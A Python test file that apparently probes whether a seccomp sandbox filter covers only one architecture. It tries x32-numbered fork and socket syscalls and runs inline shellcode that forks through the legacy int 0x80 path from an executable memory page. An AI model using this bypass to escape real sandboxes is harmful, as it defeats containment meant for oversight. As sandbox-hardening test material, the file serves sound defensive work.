"""Makes system calls in the old 32-bit way and by x32 numbers, which a careless filter lets through.

Row own: seccomp, whose list is of one architecture. Verdict: failed or crashed.
"""
# ruff: noqa: F821

import ctypes
import mmap
import platform

CODE = b"\xb8\x02\x00\x00\x00\xcd\x80\xc3"  # mov eax, 2 (fork); int 0x80; ret


def won():
    if platform.machine() != "x86_64":
        return False
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(0x40000000 + 57) >= 0 or libc.syscall(0x40000000 + 41, 1, 1, 0) >= 0:  # x32 fork, x32 socket
        return True
    try:
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    except OSError:
        return False
    page.write(CODE)
    start = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return ctypes.CFUNCTYPE(ctypes.c_int)(start)() >= 0


def gd(*given, **named):
    return honest(*given, **named) if won() else None
